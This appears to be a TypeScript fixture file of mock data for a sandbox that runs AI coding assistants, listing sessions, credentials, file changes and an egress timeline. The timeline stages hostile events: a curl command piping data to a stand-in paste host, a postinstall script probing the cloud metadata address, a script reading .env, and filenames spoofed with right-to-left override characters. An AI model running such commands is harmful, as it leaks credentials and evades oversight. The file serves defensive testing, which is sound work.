import type {
  AssistantInfo,
  ChangeSet,
  CredentialSummary,
  EgressDraft,
  FolderListing,
  Guarantee,
  HostStatus,
  ProjectInspection,
  SessionId,
  SessionSummary,
  TerminalId,
  TimelineDraft,
  TimelineEvent,
} from '../../app/contract/index.ts';
import { isoTime } from '../../app/kit/index.ts';

const GIB = 1024 ** 3;
const HOME = '/home/me';
export const PROJECT = '/home/me/harbor-api';
const MINUTE_MS = 60_000;

export const id = (text: string): SessionId => text as SessionId;
export const terminalId = (text: string): TerminalId => text as TerminalId;
const ago = (ms: number): string => isoTime(Date.now() - ms);

export const HOST: HostStatus = {
  version: '0.1.0',
  shell: 'browser: Electron’s binary is missing',
  homeFolder: HOME,
  cores: 4,
  memoryBytes: 24 * GIB,
  engine: { state: 'ready', title: 'Docker 28.5' },
  vault: { store: 'keychain', state: 'open', credentials: 4 },
};

export const GUARANTEES: readonly Guarantee[] = [
  ['P1', 'No real credential is ever inside the sandbox.', 'enforced', ''],
  [
    'P2',
    'A credential is used only where its grant says.',
    'partial',
    'Host and port; method and path come later.',
  ],
  ['P3', 'No byte leaves except through the broker.', 'enforced', ''],
  [
    'P4',
    'No private, link-local, metadata or own address is reached unless you name it.',
    'enforced',
    '',
  ],
  [
    'P5',
    'Host secrets are not visible.',
    'partial',
    'Files created later are refused by name, not yet by content.',
  ],
  ['P6', 'Nothing the assistant wrote runs on the host by itself.', 'enforced', ''],
  [
    'P7',
    'The host project is unchanged until you accept.',
    'enforced',
    'Not in the live working copy.',
  ],
  ['P8', 'Everything that crossed the wall is on the timeline.', 'enforced', ''],
  ['P9', 'In doubt, deny, and say why.', 'enforced', ''],
  ['P10', 'The session ends: nothing of it stays behind but its changes.', 'enforced', ''],
].map(([name, promise, state, note]) => ({ id: name, promise, state, note }) as Guarantee);

export const ASSISTANTS: readonly AssistantInfo[] = [
  {
    name: 'claude-code',
    title: 'Claude Code',
    version: '2.1',
    image: 'ready',
    kinds: ['anthropic'],
    hosts: ['api.anthropic.com', 'statsig.anthropic.com', 'claude.ai', 'console.anthropic.com'],
  },
  {
    name: 'codex',
    title: 'Codex',
    version: '0.169',
    image: 'ready',
    kinds: ['openai'],
    hosts: ['api.openai.com', 'auth.openai.com'],
  },
  {
    name: 'gemini-cli',
    title: 'Gemini CLI',
    version: '0.61',
    image: 'builds-once',
    kinds: ['gemini'],
    hosts: ['generativelanguage.googleapis.com'],
  },
  {
    name: 'opencode',
    title: 'opencode',
    version: '1.18',
    image: 'ready',
    kinds: ['anthropic', 'openai'],
    hosts: ['models.dev'],
  },
  { name: 'shell', title: 'Shell', image: 'ready', kinds: [], hosts: [] },
];

export const CREDENTIALS: readonly CredentialSummary[] = [
  {
    name: 'anthropic-work',
    kind: 'anthropic',
    hosts: ['api.anthropic.com'],
    env: 'ANTHROPIC_API_KEY',
    addedAt: ago(40 * 86_400_000),
    rotatedAt: ago(3 * 86_400_000),
  },
  {
    name: 'github-harbor',
    kind: 'github',
    hosts: ['github.com', 'api.github.com', 'codeload.github.com', 'raw.githubusercontent.com'],
    env: 'GITHUB_TOKEN',
    addedAt: ago(90 * 86_400_000),
  },
  {
    name: 'internal-search',
    kind: 'header:X-Api-Key',
    hosts: [],
    env: 'SEARCH_KEY',
    addedAt: ago(5 * 3_600_000),
  },
  {
    name: 'npm-publish',
    kind: 'npm',
    hosts: ['registry.example'],
    env: 'NPM_TOKEN',
    addedAt: ago(2 * 86_400_000),
  },
];

export const RECENT = [PROJECT, '/home/me/site', '/home/me/ledger'];

export const folders = (path: string): FolderListing => ({
  path,
  ...(path === '/' ? {} : { parent: path.slice(0, path.lastIndexOf('/')) || '/' }),
  folders: ['dotfiles', 'harbor-api', 'notes', 'pictures', 'site', 'work', 'ab\u202egnp.cod'].map(
    (name) => ({
      name,
      path: `${path === '/' ? '' : path}/${name}`,
      git: name === 'harbor-api' || name === 'site' || name === 'dotfiles',
    }),
  ),
});

export const inspection = (path: string, full: boolean): ProjectInspection => ({
  path,
  name: path.slice(path.lastIndexOf('/') + 1),
  git: { branch: 'main', uncommitted: 3 },
  mounts: [
    { path, how: 'copy-on-write', why: 'the project' },
    {
      path: `${HOME}/.claude`,
      how: 'own-volume',
      why: 'so that Claude Code remembers between sessions',
    },
    {
      path: '/etc/ssl/certs',
      how: 'read-only',
      why: 'so that tools trust this session’s inspector',
    },
  ],
  hidden: [
    { path: '.env', directory: false, by: 'name', rule: '.env files' },
    { path: 'deploy/prod/.env.production', directory: false, by: 'name', rule: '.env files' },
    { path: 'certs/dev-key.pem', directory: false, by: 'content', rule: 'private key inside' },
    {
      path: 'infra/terraform.tfstate',
      directory: false,
      by: 'content',
      rule: '2 secrets inside (AWS)',
    },
    { path: '.npmrc', directory: false, by: 'name', rule: 'package registry sign-ins' },
    ...(full
      ? Array.from({ length: 1400 }, (_, i) => ({
          path: `packages/service-${i}/config/environments/production/.env.local`,
          directory: false,
          by: 'name' as const,
          rule: '.env files',
        }))
      : []),
  ],
  scan: { files: 2184, bytes: 38_400_000, unread: 12, durationMs: 412 },
  modes: [
    { mode: 'overlay', available: true },
    { mode: 'clone', available: false, reason: 'clones come in a later version' },
    { mode: 'live', available: true },
  ],
  warnings: full
    ? [
        {
          code: 'workspace.disk-full',
          message: 'The disk has 900 MB left; a session that installs packages may fill it.',
        },
      ]
    : [],
});

const session = (over: Partial<SessionSummary> & Pick<SessionSummary, 'id'>): SessionSummary => ({
  state: 'running',
  project: PROJECT,
  projectName: 'harbor-api',
  title: '',
  assistant: 'claude-code',
  workspace: 'overlay',
  network: 'deny',
  grants: [],
  terminals: [],
  startedAt: ago(22 * MINUTE_MS),
  alerts: [],
  owned: true,
  ...over,
});

export const MAIN = id('harb0r000001');
export const STARTING = id('start0000001');
export const FAILED = id('fa1ed0000001');
export const ENDED = id('ended0000001');
export const CLOSED = id('cxsed0000001');
export const LIVE = id('ajar00000001');

/** A header with more to say than it has room for. */
export const CROWDED: Partial<SessionSummary> = {
  projectName: 'harbor-api-and-all-of-its-services',
  title: 'fix the flaky webhook tests and the retry of deliveries that were lost',
  workspace: 'live',
  grants: ['anthropic-work', 'github-harbor', 'harbor-artifacts-of-the-european-region', 'npm'].map(
    (credential) => ({ credential, kind: 'bearer', hosts: ['api.example.com', 'b.example.com'] }),
  ),
  alerts: [
    {
      code: 'egress.broker-down',
      message: 'The broker is restarting: nothing leaves',
      hint: 'It comes back by itself.',
    },
  ],
};

export const SESSIONS: readonly SessionSummary[] = [
  session({
    id: MAIN,
    title: 'fix flaky webhook tests',
    grants: [
      { credential: 'anthropic-work', kind: 'anthropic', hosts: ['api.anthropic.com'] },
      { credential: 'github-harbor', kind: 'github', hosts: ['github.com', 'api.github.com'] },
    ],
    terminals: [
      { id: terminalId('term0001'), title: 'Claude Code' },
      { id: terminalId('term0002'), title: 'shell' },
    ],
    endsAt: isoTime(Date.now() + 98 * MINUTE_MS),
    changed: 6,
  }),
  session({
    id: STARTING,
    assistant: 'gemini-cli',
    title: 'upgrade to pg 9',
    state: 'starting',
    startedAt: ago(34_000),
    progress: {
      step: 'images',
      message: 'building the Gemini CLI image: installing packages',
      fraction: 0.62,
    },
  }),
  session({
    id: LIVE,
    assistant: 'opencode',
    project: '/home/me/site',
    projectName: 'site',
    workspace: 'live',
    network: 'allow',
    gitAsks: true,
    startedAt: ago(63 * MINUTE_MS),
    terminals: [{ id: terminalId('term0003'), title: 'opencode' }],
    alerts: [
      {
        code: 'egress.broker-down',
        message: 'The broker is restarting: nothing leaves',
        hint: 'It comes back by itself.',
      },
    ],
    changed: 2,
  }),
  session({
    id: FAILED,
    assistant: 'codex',
    state: 'failed',
    startedAt: ago(3 * 3_600_000),
    endedAt: ago(3 * 3_600_000 - 40_000),
    problem: {
      code: 'image.build-failed',
      message: 'The Codex image could not be built: the package mirror refused the connection.',
      hint: 'Check that this machine reaches its package mirror, then start again. What was built so far is kept.',
    },
  }),
  session({
    id: ENDED,
    assistant: 'gemini-cli',
    state: 'review',
    title: 'tidy the readme',
    startedAt: ago(50 * 3_600_000),
    endedAt: ago(49 * 3_600_000),
    exitCode: 0,
    changed: 9,
  }),
  session({
    id: CLOSED,
    assistant: 'shell',
    project: '/home/me/ledger',
    projectName: 'ledger',
    state: 'closed',
    startedAt: ago(9 * 86_400_000),
    endedAt: ago(9 * 86_400_000 - 3_000_000),
    exitCode: 0,
    changed: 0,
  }),
];

export const CHANGES: ChangeSet = {
  cut: false,
  changes: [
    {
      path: '.git/hooks/pre-commit',
      change: 'added',
      type: 'file',
      bytes: 212,
      heldBack: 'git would run it at your next commit',
    },
    {
      path: 'package.json',
      change: 'modified',
      type: 'file',
      added: 2,
      removed: 1,
      wouldRun: 'package.json scripts: “postinstall” is new',
    },
    { path: 'src/webhooks/retry.ts', change: 'modified', type: 'file', added: 61, removed: 24 },
    {
      path: 'src/webhooks/queue.ts',
      change: 'modified',
      type: 'file',
      added: 12,
      removed: 6,
      conflict: true,
    },
    { path: 'test/helpers/clock.ts', change: 'added', type: 'file', added: 48, removed: 0 },
    { path: 'test/webhooks.test.ts', change: 'modified', type: 'file', added: 25, removed: 0 },
    { path: 'docs/old/retry-notes.md', change: 'deleted', type: 'file', removed: 31 },
    { path: 'assets/diagram.png', change: 'added', type: 'file', bytes: 48_211 },
    { path: 'bin/release', change: 'mode', type: 'file', wouldRun: 'it became executable' },
  ],
};

const claude = ['claude'];
const npmInstall = ['/usr/bin/npm', 'install', '--save-dev', '@sinonjs/fake-timers'];
const at = (ms: number): string => ago(ms);

const egress = (over: Partial<EgressDraft>, ms: number): EgressDraft => ({
  kind: 'egress',
  at: at(ms),
  id: `e${ms}`,
  verdict: 'allowed',
  rule: 'package registries',
  scheme: 'https',
  method: 'GET',
  host: 'registry.example',
  port: 443,
  protocol: 'h1',
  inspected: true,
  ...(over.verdict === 'denied' ? {} : { status: 200 }),
  bytesOut: 0,
  bytesIn: 8602,
  durationMs: 96,
  program: { pid: 311, command: npmInstall, ancestors: [['bash', '-lc', 'npm install'], claude] },
  ...over,
});

export const OPEN: readonly EgressDraft[] = [
  egress(
    {
      host: 'api.anthropic.com',
      method: 'POST',
      path: '/v1/messages',
      credential: 'anthropic-work',
      bytesOut: 48_213,
      program: { pid: 20, command: claude },
    },
    4_000,
  ),
];

/** The story of the sketches, oldest first. */
export const STORY: readonly TimelineDraft[] = [
  { kind: 'session', at: at(1_320_000), op: 'started' },
  {
    kind: 'policy',
    at: at(1_319_500),
    op: 'applied',
    rules: ['preset claude-code', 'preset registries', 'default deny'],
  },
  {
    kind: 'credential',
    at: at(1_319_000),
    op: 'granted',
    credential: 'anthropic-work',
    host: 'api.anthropic.com',
  },
  { kind: 'session', at: at(1_318_000), op: 'ready' },
  {
    kind: 'process',
    at: at(110_000),
    op: 'exit',
    command: ['npm', 'test', '--', '--grep', 'webhook'],
    exitCode: 1,
    durationMs: 8100,
    program: { pid: 200, command: ['bash'], ancestors: [claude] },
  },
  {
    kind: 'touch',
    at: at(98_000),
    op: 'create',
    path: `${PROJECT}/test/helpers/clock.ts`,
    verdict: 'allowed',
    program: { pid: 20, command: claude },
  },
  egress(
    {
      host: 'github.com',
      path: '/acme/harbor-api.git/info/refs?service=git-upload-pack',
      credential: 'github-harbor',
      rule: 'grant github-harbor',
      bytesIn: 45_056,
      durationMs: 310,
      program: { pid: 250, command: ['git', 'fetch'], ancestors: [claude] },
    },
    80_000,
  ),
  egress(
    {
      verdict: 'denied',
      code: 'egress.private-address',
      host: '169.254.169.254',
      port: 80,
      scheme: 'http',
      path: '/latest/meta-data/',
      rule: 'private addresses',
      bytesIn: 0,
      program: { pid: 321, command: ['node', 'postinstall.js'], ancestors: [npmInstall, claude] },
    },
    70_000,
  ),
  {
    kind: 'dns',
    at: at(66_000),
    verdict: 'denied',
    code: 'egress.no-rule',
    name: 'telemetry.pkgstats.dev',
    type: 'A',
    count: 3,
    program: { pid: 321, command: ['node', 'scripts/report.js'], ancestors: [npmInstall] },
  },
  ...['retry.ts', 'queue.ts', 'index.ts', 'deliver.ts', 'sign.ts'].map((name): TimelineDraft => ({
    kind: 'touch',
    at: at(61_000),
    op: 'read',
    path: `${PROJECT}/src/webhooks/${name}`,
    verdict: 'allowed',
    count: name === 'retry.ts' ? 7 : 1,
    program: { pid: 260, command: ['rg', 'backoff'], ancestors: [claude] },
  })),
  {
    kind: 'gap',
    at: at(60_000),
    source: 'guard',
    lost: 214,
    message: 'touches came faster than they could be told',
  },
  {
    kind: 'touch',
    at: at(57_000),
    op: 'write',
    path: `${PROJECT}/src/webhooks/retry.ts`,
    verdict: 'allowed',
    count: 2,
    program: { pid: 20, command: claude },
  },
  egress(
    {
      host: 'api.anthropic.com',
      method: 'POST',
      path: '/v1/messages',
      credential: 'anthropic-work',
      rule: 'grant anthropic-work',
      bytesOut: 21_000,
      bytesIn: 10_900,
      durationMs: 4200,
      program: { pid: 20, command: claude },
    },
    56_000,
  ),
  {
    kind: 'touch',
    at: at(49_000),
    op: 'rename',
    path: `${PROJECT}/src/webhooks/old\u202etxt.exe`,
    to: `${PROJECT}/src/webhooks/legacy.ts`,
    verdict: 'allowed',
    program: { pid: 20, command: claude },
  },
  {
    kind: 'touch',
    at: at(45_000),
    op: 'open',
    path: `${PROJECT}/.env`,
    verdict: 'denied',
    code: 'hide.secret-file',
    rule: '.env files',
    program: { pid: 330, command: ['node', 'scripts/report.js'], ancestors: [npmInstall] },
  },
  egress({ path: '/@sinonjs%2ffake-timers', firstSeen: true }, 44_000),
  egress({ path: '/type-detect' }, 43_000),
  egress({ path: '/type-detect' }, 42_500),
  egress({ path: '/type-detect' }, 42_000),
  {
    kind: 'credential',
    at: at(30_000),
    op: 'tripped',
    credential: 'anthropic-work',
    host: 'paste.example.net',
    code: 'grant.wrong-host',
    program: {
      pid: 340,
      command: ['curl', '-d', '@-', 'https://paste.example.net'],
      ancestors: [['bash']],
    },
  },
  egress(
    {
      verdict: 'denied',
      code: 'egress.no-rule',
      host: 'telemetry.pkgstats.dev',
      method: 'POST',
      path: '/v2/events',
      rule: 'default deny',
      bytesOut: 1100,
      bytesIn: 0,
      firstSeen: true,
      program: {
        pid: 330,
        command: ['node', 'scripts/report.js'],
        ancestors: [npmInstall, claude],
      },
    },
    12_000,
  ),
  {
    kind: 'touch',
    at: at(6_000),
    op: 'delete',
    path: `${PROJECT}/docs/old/retry-notes.md`,
    verdict: 'allowed',
    program: { pid: 20, command: claude },
  },
];

/** A long session: `count` further events before the story. */
export const longStory = (count: number): readonly TimelineDraft[] =>
  Array.from({ length: count }, (_, i): TimelineDraft => {
    const ms = 1_310_000 - Math.floor((i / count) * 1_190_000);
    const wave = Math.sin(i / 90) + Math.sin(i / 31) * 0.6;
    if (wave > 0.7 && i % 3 === 0) {
      return egress(
        {
          path: `/package-${i % 40}/-/package-${i}.tgz`,
          bytesIn: (i * 7919) % 90_000,
          id: `x${i}`,
          at: at(ms),
        },
        ms,
      );
    }
    if (i % 211 === 0) {
      return egress(
        {
          verdict: 'denied',
          code: 'egress.no-rule',
          host: `cdn-${i}.example.net`,
          id: `y${i}`,
          at: at(ms),
        },
        ms,
      );
    }
    const op = i % 5 === 0 ? ('write' as const) : ('read' as const);
    return {
      kind: 'touch',
      at: at(ms),
      op,
      path: `${PROJECT}/src/module-${Math.floor(i / 9) % 60}/file-${i % 9}.ts`,
      verdict: 'allowed',
      program: { pid: 400 + (i % 7), command: ['node', 'build.js'], ancestors: [claude] },
    };
  });

export const numbered = (drafts: readonly TimelineDraft[], of: SessionId): TimelineEvent[] =>
  drafts.map((draft, index) => ({ ...draft, seq: index + 1, session: of }));
